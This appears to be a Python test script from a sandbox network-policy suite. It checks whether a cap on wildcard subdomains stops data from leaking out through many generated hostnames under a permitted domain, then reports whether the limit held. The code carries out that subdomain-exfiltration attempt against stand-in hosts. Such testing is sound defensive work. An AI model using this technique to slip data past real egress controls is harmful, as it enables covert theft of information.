# attack: data carried out in many names below an allowed one
# family: 19
# runs: exec
# stopped-by: gate-caps
# network: {"rules": [{"allow": ["allowed.example", "*.tunnel.example"]}], "caps": {"names": 8}}
#
# A wildcard lets whoever runs the domain read what is asked: bounded by the number of names.
import json
import os
import socket


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def _get(host, path="/", port=80):
    return _talk(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def attack():
    mark, most = os.urandom(4).hex(), 8  # as in the policy's caps
    if b'"names"' not in _get("allowed.example", "/seen"):
        return "BROKEN: the allowed host does not answer"
    for number in range(60):
        _get(f"{number}x{mark}.tunnel.example")
    names = set(json.loads(_get("allowed.example", "/seen").partition(b"\r\n\r\n")[2])["names"])
    left = sum(mark in name for name in names)
    if left == 0:
        return "BROKEN: not one name below the allowed one left"
    return f"ESCAPED: {left} names left" if left > most else f"HELD: {left} names left, then no more"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
